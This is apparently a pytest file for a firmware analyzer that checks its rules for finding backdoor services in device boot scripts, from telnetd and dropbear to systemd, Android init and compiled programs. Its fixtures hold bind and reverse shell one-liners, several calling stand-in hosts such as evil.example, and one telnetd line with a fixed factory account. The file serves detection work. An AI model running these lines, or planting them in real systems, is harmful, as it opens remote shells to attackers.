"""FP-SVC rules: each hits on its case with the exact line as evidence, and not on its decoys."""

from __future__ import annotations

import hashlib

import pytest

from firmproof.analyzers.services import Services
from firmproof.fs.rootfs import RootFS
from firmproof.model import Severity

ELF_STUB = b"\x7fELF\x01\x01\x01" + b"\0" * 57
INITTAB = "::sysinit:/etc/init.d/rcS\n::respawn:/sbin/getty -L ttyS0 115200 vt100\n"
RCS = "/etc/init.d/rcS"


def router(rcs_lines: list[str], extra: dict[str, bytes | str] | None = None,
           links: dict[str, str] | None = None) -> RootFS:
    """A small BusyBox router: inittab → rcS holding `rcs_lines`."""
    files: dict[str, bytes | str] = {
        "/etc/inittab": INITTAB,
        RCS: "#!/bin/sh\nmount -a\n" + "".join(line + "\n" for line in rcs_lines),
        "/bin/busybox": ELF_STUB,
    }
    files.update(extra or {})
    all_links = {"/bin/sh": "busybox", "/usr/sbin/telnetd": "/bin/busybox", "/sbin/getty": "/bin/busybox",
                 "/usr/bin/nc": "/bin/busybox", "/usr/sbin/inetd": "/bin/busybox",
                 "/usr/bin/telnet": "/bin/busybox", "/usr/bin/mkfifo": "/bin/busybox",
                 "/bin/cat": "busybox", "/bin/rm": "busybox"}
    # the other programs the lines run, where their packages install them
    for program in ("/usr/sbin/utelnetd", "/usr/bin/ncat", "/usr/bin/socat", "/bin/bash",
                    "/usr/sbin/tcpd", "/usr/sbin/in.rlogind"):
        files.setdefault(program, ELF_STUB)
    all_links.update(links or {})
    return RootFS.from_files(files, modes={RCS: 0o755}, links=all_links)


def run(fs: RootFS, rule_id: str | None = None):
    findings = list(Services().run(fs))
    return [f for f in findings if rule_id is None or f.rule.id == rule_id]


def evidence(fs: RootFS, finding) -> bytes:
    data = fs.read(finding.path)
    assert data is not None
    assert hashlib.sha256(data).hexdigest() == finding.evidence.sha256
    return data[finding.evidence.offset:finding.evidence.offset + finding.evidence.length]


# FP-SVC-001 / FP-SVC-002: telnetd ----------------------------------------------------

@pytest.mark.parametrize("line", [
    "busybox telnetd -l /bin/ash",
    "/bin/busybox telnetd -F -l'/bin/sh' &",
    "start-stop-daemon -S -b -x /usr/sbin/telnetd -- -l /bin/bash",
    "nohup utelnetd -p 23 -l /bin/sh -d",
    "sh -c 'telnetd -l /bin/sh'",
])
def test_fp_svc_001_telnetd_variants(line):
    fs = router([line])
    (finding,) = run(fs, "FP-SVC-001")
    assert evidence(fs, finding) == line.encode()


def test_fp_svc_001_from_inittab_and_xinetd():
    fs = RootFS.from_files({
        "/etc/inittab": "::respawn:/usr/sbin/telnetd -F -l /bin/sh\n",
        "/etc/xinetd.d/telnet": "service telnet\n{\n  disable = no\n  server = /usr/sbin/in.telnetd\n"
                                "  server_args = -L /bin/sh\n  port = 2323\n}\n",
    })
    inittab, xinetd = run(fs, "FP-SVC-001")
    assert evidence(fs, inittab) == b"::respawn:/usr/sbin/telnetd -F -l /bin/sh"
    assert evidence(fs, xinetd) == b"server = /usr/sbin/in.telnetd"
    assert xinetd.details["port"] == 2323 and xinetd.details["via"] == "xinetd"


def test_fp_svc_001_decoys():
    fs = router(["# /usr/sbin/telnetd -l /bin/sh   (debug builds only)",
                 "echo 'telnetd -l /bin/sh' > /tmp/hint",
                 "cat > /tmp/x.sh <<EOF", "telnetd -l /bin/sh", "EOF",
                 "killall telnetd"])
    assert run(fs) == []


def test_fp_svc_002_alpha_networks_fixed_account():
    fs = router(["image_sign=`cat /etc/config/image_sign`",
                 "telnetd -l /usr/sbin/login -u Alphanetworks:$image_sign -i br0 &"])
    (finding,) = run(fs, "FP-SVC-002")
    assert evidence(fs, finding) == b"telnetd -l /usr/sbin/login -u Alphanetworks:$image_sign -i br0 &"
    assert finding.details["fixed_account"] == "Alphanetworks"


OPENWRT_TELNET = (
    "#!/bin/sh /etc/rc.common\n"
    "# Copyright (C) 2006-2011 OpenWrt.org\n"
    "\n"
    "START=50\n"
    "\n"
    "has_root_pwd() {\n"
    "\tlocal pwd=$([ -f \"$1\" ] && cat \"$1\")\n"
    "\t      pwd=\"${pwd#*root:}\"\n"
    "\t      pwd=\"${pwd%%:*}\"\n"
    "\n"
    "\ttest -n \"${pwd#[\\!x]}\"\n"
    "}\n"
    "\n"
    "start() {\n"
    "\tif ( ! has_ssh_pubkey && \\\n"
    "\t     ! has_root_pwd /etc/passwd && ! has_root_pwd /etc/shadow ) || \\\n"
    "\t   ( ! /etc/init.d/dropbear enabled 2> /dev/null && ! /etc/init.d/sshd enabled 2> /dev/null );\n"
    "\tthen\n"
    "\t\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n"
    "\tfi\n"
    "}\n"
    "\n"
    "stop() {\n"
    "\tservice_stop /usr/sbin/telnetd\n"
    "}\n"
)
OPENWRT_RCS = """#!/bin/sh
run_scripts() {
	for i in /etc/rc.d/$1*; do
		[ -x $i ] && $i $2 2>&1
	done | $LOGGER
}
LOGGER="cat"
run_scripts "$1" "$2"
"""


def openwrt(telnet_script: str) -> RootFS:
    return RootFS.from_files({
        "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n",
        RCS: OPENWRT_RCS, "/etc/init.d/telnet": telnet_script, "/etc/rc.common": "#!/bin/sh\n",
        "/etc/init.d/dropbear": "#!/bin/sh /etc/rc.common\nstart() {\n"
                                "\tservice_start /usr/sbin/dropbear -P /var/run/dropbear.pid\n}\n",
        "/bin/busybox": ELF_STUB, "/usr/sbin/dropbear": ELF_STUB,
    }, links={"/etc/rc.d/S50telnet": "../init.d/telnet", "/etc/rc.d/S50dropbear": "../init.d/dropbear",
              "/usr/sbin/telnetd": "/bin/busybox"})


def test_fp_svc_002_stock_openwrt_telnet_is_info_only():
    fs = openwrt(OPENWRT_TELNET)
    findings = run(fs)
    assert all(f.severity is Severity.INFO for f in findings)
    (telnet,) = [f for f in findings if f.rule.id == "FP-SVC-002"]
    assert evidence(fs, telnet) == b"service_start /usr/sbin/telnetd -l /bin/login.sh"
    assert "has_root_pwd" in telnet.details["guard"]
    assert telnet.details["chain"] == ["/etc/inittab", RCS, "/etc/rc.d/S50telnet", "/etc/init.d/telnet",
                                       "/usr/sbin/telnetd"]


def test_fp_svc_002_patched_openwrt_telnet_without_guard_is_high():
    patched = OPENWRT_TELNET.replace(OPENWRT_TELNET[OPENWRT_TELNET.index("\tif ("):
                                                    OPENWRT_TELNET.index("\tfi\n") + 4],
                                     "\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n")
    fs = openwrt(patched)
    (finding,) = run(fs, "FP-SVC-002")
    assert finding.severity is Severity.HIGH
    assert evidence(fs, finding) == b"service_start /usr/sbin/telnetd -l /bin/login.sh"


def test_fp_svc_002_decoys_not_enabled_and_never_started():
    fs = RootFS.from_files({
        "/etc/inittab": "::sysinit:/etc/init.d/rcS S boot\n", RCS: OPENWRT_RCS,
        "/etc/init.d/telnet": OPENWRT_TELNET.replace("-l /bin/login.sh", "-l /bin/sh"),
        "/etc/rc.common": "#!/bin/sh\n", "/bin/busybox": ELF_STUB,
    }, links={"/usr/sbin/telnetd": "/bin/busybox"})       # no /etc/rc.d/S50telnet: disabled
    assert run(fs) == []
    assert run(router([], links={"/usr/sbin/utelnetd": "/bin/busybox"})) == []


def test_fp_svc_002_lone_partition_hook():
    """A camera's /mnt/custom partition: no init here, extapp.sh is run by the rootfs."""
    fs = RootFS.from_files({"/extapp.sh": "#!/bin/sh\nmount --bind /usr/share/web/ /mnt/web/\n"
                                          "/bin/busybox telnetd -F\n"})
    (finding,) = run(fs, "FP-SVC-002")
    assert evidence(fs, finding) == b"/bin/busybox telnetd -F"
    assert finding.details["reached"] is False and finding.severity is Severity.HIGH


# FP-SVC-003: r-services ------------------------------------------------------------

def test_fp_svc_003_decoy_commented_and_disabled():
    fs = router([], {
        "/etc/inetd.conf": "#exec stream tcp nowait root /usr/sbin/in.rexecd in.rexecd\n",
        "/etc/xinetd.d/rsh": "service shell\n{\n disable = yes\n server = /usr/sbin/in.rshd\n}\n"})
    assert run(fs) == []


# FP-SVC-004 / FP-SVC-005: SSH --------------------------------------------------------

def test_fp_svc_004_dropbear_blank_passwords():
    fs = router(["dropbear -B -p 22 &"], {"/usr/sbin/dropbear": ELF_STUB})
    (finding,) = run(fs, "FP-SVC-004")
    assert evidence(fs, finding) == b"dropbear -B -p 22 &"
    assert finding.severity is Severity.HIGH and finding.details["option"] == "-B"
    assert run(fs, "FP-SVC-005") == []


# FP-SVC-006 / FP-SVC-007: shells on the network ---------------------------------------

@pytest.mark.parametrize(("line", "port"), [
    ("busybox nc -lp 9999 -e /bin/sh", 9999),
    ("ncat --listen 4444 --exec '/bin/bash -i'", 4444),
    ("nc -lk 4444 | /bin/sh", 4444),
    ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -l 1234 > /tmp/f", 1234),
    ("socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/sh,pty,stderr &", 5555),
])
def test_fp_svc_006_bind_shells(line, port):
    fs = router([line])
    (finding,) = run(fs, "FP-SVC-006")
    assert evidence(fs, finding) == line.encode()
    assert finding.details["port"] == port and finding.severity is Severity.CRITICAL


def test_fp_svc_006_inetd_serving_a_shell_and_cron_reboot():
    fs = router(["inetd"], {"/etc/inetd.conf": "9999 stream tcp nowait root /bin/sh sh -i\n",
                            "/etc/crontab": "@reboot root nc -l -p 7777 -e /bin/sh\n"})
    cron, inetd = sorted(run(fs, "FP-SVC-006"), key=lambda f: f.path)
    assert evidence(fs, cron) == b"@reboot root nc -l -p 7777 -e /bin/sh"
    assert cron.details["port"] == 7777 and cron.details["chain"][0] == "crond"
    assert evidence(fs, inetd) == b"9999 stream tcp nowait root /bin/sh sh -i"
    assert inetd.details["port"] == 9999


@pytest.mark.parametrize("line", [
    "nc 10.0.0.1 514 < /var/log/messages",
    "sh /tmp/update.sh | nc 10.0.0.1 9000",
    "socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80",
    "exec 3<>/dev/tcp/10.0.0.1/80",
])
def test_fp_svc_006_007_decoys(line):
    assert run(router([line])) == []


@pytest.mark.parametrize(("line", "host", "port"), [
    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "203.0.113.7", 4444),
    ("socat exec:'bash -li',pty,stderr tcp:evil.example:443", "evil.example", 443),
    ("telnet 10.0.0.2 23 | /bin/sh | telnet 10.0.0.2 24", "10.0.0.2", 23),
])
def test_fp_svc_007_reverse_shells(line, host, port):
    fs = router([], {"/etc/crontabs/root": f"*/10 * * * * {line}\n"})
    (finding,) = run(fs, "FP-SVC-007")
    assert evidence(fs, finding) == f"*/10 * * * * {line}".encode()
    assert finding.details["host"] == host and finding.details["port"] == port


# FP-SVC-008: a compiled bind shell started at boot --------------------------------------

def test_fp_svc_008_bind_shell_program_started_from_rcs(elf_programs):
    binary = elf_programs["bindshell"]
    fs = router(["/bin/backdoor &"], {"/bin/backdoor": binary}, )
    (finding,) = run(fs, "FP-SVC-008")
    assert evidence(fs, finding) == b"/bin/backdoor &"
    assert finding.path == RCS and finding.severity is Severity.CRITICAL
    assert finding.details["binary"] == "/bin/backdoor"
    assert finding.details["binary_sha256"] == hashlib.sha256(binary).hexdigest()
    assert {"socket", "bind", "listen", "accept", "execl"} <= set(finding.details["imports"])
    assert finding.details["shell_string"] == "/bin/sh"
    assert finding.details["chain"] == ["/etc/inittab", RCS, "/bin/backdoor"]


@pytest.mark.parametrize("variant", ["sectionless", "bindshell-static"])
def test_fp_svc_008_stripped_and_static_variants(elf_programs, sectionless, variant):
    if variant == "sectionless":
        binary = sectionless(elf_programs["bindshell"])
    elif variant in elf_programs:
        binary = elf_programs[variant]
    else:
        pytest.skip("no static libc to link against")
    fs = router(["/usr/bin/helper -d"], {"/usr/bin/helper": binary})
    (finding,) = run(fs, "FP-SVC-008")
    assert evidence(fs, finding) == b"/usr/bin/helper -d"


def test_fp_svc_008_decoys(elf_programs):
    fs = router(["/usr/sbin/echod &", "/usr/bin/runsh", "/usr/sbin/devconf get -f /var/config.xml.gz"],
                {"/usr/sbin/echod": elf_programs["udpecho"], "/usr/bin/runsh": elf_programs["execonly"],
                 "/usr/sbin/devconf": elf_programs["cmdserver"],
                 "/bin/backdoor": elf_programs["bindshell"],              # present, never started
                 "/usr/sbin/telnetd.real": elf_programs["bindshell"]})
    assert run(fs) == []
    # a known daemon with the same shape is left to its own rule
    known = router(["/usr/sbin/dropbear -p 22"], {"/usr/sbin/dropbear": elf_programs["bindshell"]})
    assert [f.rule.id for f in run(known)] == ["FP-SVC-005"]


def test_fp_svc_006_socket_activated_systemd_shell():
    fs = RootFS.from_files({
        "/lib/systemd/systemd": ELF_STUB,
        "/lib/systemd/system/diag.socket": "[Socket]\nListenStream=5555\nAccept=yes\n",
        "/lib/systemd/system/diag@.service": "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
        "/lib/systemd/system/idle.socket": "[Socket]\nListenStream=6666\nAccept=yes\n",
        "/lib/systemd/system/idle@.service": "[Service]\nExecStart=-/bin/sh -i\nStandardInput=socket\n",
    }, links={"/etc/systemd/system/sockets.target.wants/diag.socket": "/lib/systemd/system/diag.socket"})
    (finding,) = run(fs, "FP-SVC-006")                 # idle.socket is not enabled
    assert evidence(fs, finding) == b"ExecStart=-/bin/sh -i"
    assert finding.path == "/lib/systemd/system/diag@.service" and finding.details["port"] == 5555
    assert finding.details["chain"][:3] == ["systemd", "/etc/systemd/system/sockets.target.wants/diag.socket",
                                            "/lib/systemd/system/diag.socket"]


OPENWRT_FAILSAFE = (
    "#!/bin/sh\n"
    "failsafe_netlogin () {\n"
    "    telnetd -l /bin/login.sh <> /dev/null 2>&1\n"
    "}\n"
    "\n"
    "boot_hook_add failsafe failsafe_netlogin\n"
)


def test_fp_svc_002_openwrt_failsafe_telnetd_is_info_only():
    script = "/lib/preinit/99_10_failsafe_login"
    fs = router([f". {script}"], {script: OPENWRT_FAILSAFE})
    (finding,) = run(fs, "FP-SVC-002")
    assert finding.severity is Severity.INFO and finding.details["mode"] == "failsafe"
    assert evidence(fs, finding) == b"telnetd -l /bin/login.sh <> /dev/null 2>&1"
    # the same line in any other script is a telnetd started at boot
    other = router([". /etc/diag.sh"], {"/etc/diag.sh": OPENWRT_FAILSAFE})
    (finding,) = run(other, "FP-SVC-002")
    assert finding.severity is Severity.HIGH and "mode" not in finding.details


def test_orphan_scripts_exclude_maintainer_scripts_and_non_shell_files():
    """With no init in the tree, stray shell scripts are followed; install-time scripts and
    Perl modules without a shebang are not."""
    line = "/usr/sbin/telnetd -l /bin/sh -p 2323 &\n"
    fs = RootFS.from_files({
        "/custom/start.sh": "#!/bin/sh\n" + line,
        "/var/lib/dpkg/info/telnetd.postinst": "#!/bin/sh\n" + line,
        "/usr/share/perl5/Debconf/Shell.pm": "package Debconf::Shell;\n" + line,
        "/bin/busybox": ELF_STUB,
    }, links={"/usr/sbin/telnetd": "/bin/busybox"})
    assert [f.path for f in run(fs, "FP-SVC-001")] == ["/custom/start.sh"]



def _bare_root(busybox: bytes, line: str) -> RootFS:
    return RootFS.from_files({"/etc/inittab": INITTAB, RCS: f"#!/bin/sh\n{line}\n",
                              "/bin/busybox": busybox, "/usr/sbin/ntpd": ELF_STUB},
                             modes={RCS: 0o755}, links={"/bin/sh": "busybox"})


def test_a_program_the_image_does_not_hold_starts_nothing():
    """`[ -x /usr/sbin/utelnetd ] && …` in a root without utelnetd starts nothing; a bare
    `telnetd` without a link still runs when the image's BusyBox holds that applet (an ash
    built standalone runs applets without links); a program in a runtime folder may be put
    there at boot, so it counts."""
    assert run(_bare_root(ELF_STUB, "[ -x /usr/sbin/utelnetd ] && /usr/sbin/utelnetd -l /bin/sh &")) == []
    assert run(_bare_root(ELF_STUB, "telnetd -l /bin/sh -p 24 &")) == []
    applet = _bare_root(ELF_STUB + b"\0syslogd\0telnetd\0tftp\0", "telnetd -l /bin/sh -p 24 &")
    (finding,) = run(applet, "FP-SVC-001")
    assert evidence(applet, finding) == b"telnetd -l /bin/sh -p 24 &"
    runtime = _bare_root(ELF_STUB, "/tmp/telnetd -l /bin/sh &")
    (finding,) = run(runtime, "FP-SVC-001")
    assert evidence(runtime, finding) == b"/tmp/telnetd -l /bin/sh &"


# init systems other than inittab and rcS -------------------------------------------

def test_fp_svc_upstart_jobs():
    fs = router([], {
        "/sbin/initctl": ELF_STUB,
        "/etc/init/dbg.conf": "start on runlevel [2345]\nscript\n  exec /usr/bin/nc -l -p 4444 -e /bin/sh\n"
                              "end script\n",
        "/etc/init/tn.conf": "start on startup\nexec /usr/sbin/telnetd -F -l /bin/sh\n",
        "/etc/init/idle.conf": "exec /usr/sbin/telnetd -F -l /bin/sh -p 24\n",
        "/etc/init/stop.conf": "start on startup\npost-stop exec /usr/bin/nc -l -p 5555 -e /bin/sh\n",
    })
    (bind,) = run(fs, "FP-SVC-006")
    assert bind.path == "/etc/init/dbg.conf"
    assert evidence(fs, bind) == b"exec /usr/bin/nc -l -p 4444 -e /bin/sh"
    (telnet,) = run(fs, "FP-SVC-001")
    assert telnet.path == "/etc/init/tn.conf" and telnet.details["via"] == "upstart"


def test_fp_svc_android_init_services():
    files: dict[str, bytes | str] = {
        "/init.rc": "on boot\n    class_start main\n",
        "/system/bin/toybox": ELF_STUB,
        "/vendor/etc/init/dbg.rc": "service dbg /system/bin/telnetd -l /system/bin/sh\n    class main\n",
        "/system/etc/init/nc.rc": "service ncd /system/bin/nc -l -p 4444 -e /system/bin/sh\n    disabled\n"
                                  "on property:sys.boot_completed=1\n    start ncd\n",
        "/system/etc/init/off.rc": "service off /system/bin/nc -l -p 5555 -e /system/bin/sh\n    disabled\n",
    }
    links = {f"/system/bin/{n}": "toybox" for n in ("sh", "telnetd", "nc")}
    fs = RootFS.from_files(files, links=links)
    (telnet,) = run(fs, "FP-SVC-001")
    assert telnet.path == "/vendor/etc/init/dbg.rc"
    assert evidence(fs, telnet) == b"service dbg /system/bin/telnetd -l /system/bin/sh"
    (bind,) = run(fs, "FP-SVC-006")                     # off.rc: disabled, never started
    assert bind.path == "/system/etc/init/nc.rc" and bind.details["port"] == 4444


def test_fp_svc_systemd_environment_and_masked_units():
    unit = "[Service]\nEnvironment=LOGIN=/bin/sh\nExecStart=/usr/sbin/telnetd -F -l $LOGIN\n"
    fs = router([], {
        "/lib/systemd/systemd": ELF_STUB,
        "/lib/systemd/system/tn.service": unit,
        "/lib/systemd/system/masked.service": unit.replace("-F", "-F -p 24"),
    }, links={
        "/etc/systemd/system/masked.service": "/dev/null",
        "/etc/systemd/system/multi-user.target.wants/tn.service": "/lib/systemd/system/tn.service",
        "/etc/systemd/system/multi-user.target.wants/masked.service": "/lib/systemd/system/masked.service",
    })
    (telnet,) = run(fs, "FP-SVC-001")
    assert telnet.path == "/lib/systemd/system/tn.service" and telnet.details["login"] == "/bin/sh"
    assert not run(fs, "FP-SVC-002")


def test_one_daemon_started_from_two_branches_is_one_finding():
    """TRENDnet's S80telnetd.sh shape: telnetd with a factory account when image_sign exists,
    plain telnetd otherwise: one cause, one finding, the other line named in it; a different
    daemon in the same script stays a finding of its own."""
    lines = ['if [ -f /etc/config/image_sign ]; then',
             '  telnetd -l /usr/sbin/login -u Alphanetworks:x -i br0 &',
             'else', '  telnetd &', 'fi', '/usr/sbin/dropbear -p 22 &']
    fs = router(lines, {"/usr/sbin/dropbear": ELF_STUB, "/usr/sbin/login": ELF_STUB})
    (telnetd,) = run(fs, "FP-SVC-002")
    assert evidence(fs, telnetd) == b"telnetd -l /usr/sbin/login -u Alphanetworks:x -i br0 &"
    (other,) = telnetd.details["also_at"]
    data = fs.read(telnetd.path)
    assert data[other["offset"]:other["offset"] + other["length"]] == b"telnetd &"
    assert run(fs, "FP-SVC-005")    # dropbear: its own cause


# FP-SVC-009: a compiled connect-back shell started at boot; static stripped bind shells ---

@pytest.fixture(scope="module")
def backdoor_builds(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Stripped x86-64 builds of the variant sources (tests/variants/families/compiled.py)."""
    import shutil
    import subprocess

    from tests.variants.families.compiled import SOURCES
    if shutil.which("gcc") is None:
        pytest.skip("gcc missing")
    out = tmp_path_factory.mktemp("svc009")
    sources = {name: SOURCES[name] for name in ("connect-back", "local-script", "bind-fork-execve",
                                                "mgmt-reboot", "connect-log", "ntp-client")}
    built: dict[str, bytes] = {}
    for name, source in sources.items():
        (out / f"{name}.c").write_text(source)
        for static in (False, True):
            target = out / (name + (".static" if static else ""))
            proc = subprocess.run(["gcc", "-O2", *(["-static"] if static else []), "-s", "-o", str(target),
                                   str(out / f"{name}.c")], capture_output=True)
            if proc.returncode == 0:
                built[target.name] = target.read_bytes()
    return built


@pytest.mark.parametrize("name", ["connect-back", "connect-back.static"])
def test_fp_svc_009_connect_back_program(backdoor_builds, name):
    if name not in backdoor_builds:
        pytest.skip("no static libc")
    fs = router(["/usr/sbin/cloudd &"], {"/usr/sbin/cloudd": backdoor_builds[name]})
    (finding,) = run(fs, "FP-SVC-009")
    assert evidence(fs, finding) == b"/usr/sbin/cloudd &"
    assert finding.severity is Severity.CRITICAL and finding.category.value == "service.remote-shell"
    assert finding.details["address"] == "203.0.113.66"
    assert finding.details["binary"] == "/usr/sbin/cloudd"


def test_fp_svc_009_decoys(backdoor_builds):
    files = {f"/usr/sbin/{name.replace('.', '-')}": data for name, data in backdoor_builds.items()
             if name.split(".")[0] in ("connect-log", "ntp-client", "local-script", "mgmt-reboot")}
    fs = router([f"{path} &" for path in files], files)
    assert [f.rule.id for f in run(fs) if f.rule.id in ("FP-SVC-008", "FP-SVC-009")] == []


def test_fp_svc_008_static_stripped_bind_shell(backdoor_builds):
    if "bind-fork-execve.static" not in backdoor_builds:
        pytest.skip("no static libc")
    fs = router(["/usr/sbin/diagd &"], {"/usr/sbin/diagd": backdoor_builds["bind-fork-execve.static"]})
    (finding,) = run(fs, "FP-SVC-008")
    assert finding.details["static"] is True and finding.details["symbols_from"] == "syscalls"
    assert run(fs, "FP-SVC-009") == []


@pytest.mark.parametrize(("member", "toolchain", "static", "found"), [
    ("connect-popen", "x86-64", False, True), ("connect-popen", "x86-64", True, True),
    ("connect-log", "x86-64", False, False), ("connect-log", "x86-64", True, False),
    ("ntp-client", "x86-64", True, False),
])
def test_fp_svc_009_pipe_to_shell(member, toolchain, static, found):
    """A C2 client that popen()s what the connection sends is found; a client that connects and
    sends a log line and a fixed command's output is not."""
    import os

    from tests.variants.families.compiled import SOURCES, Program
    with open(os.fspath(Program(SOURCES[member], toolchain, "-O2", static)), "rb") as f:
        program = f.read()
    fs = router(["/usr/sbin/agent &"], {"/usr/sbin/agent": program})
    findings = run(fs, "FP-SVC-009")
    assert len(findings) == int(found)
    if found:
        assert findings[0].details["gives"] == "pipe" and findings[0].details["address"] == "198.51.100.7"
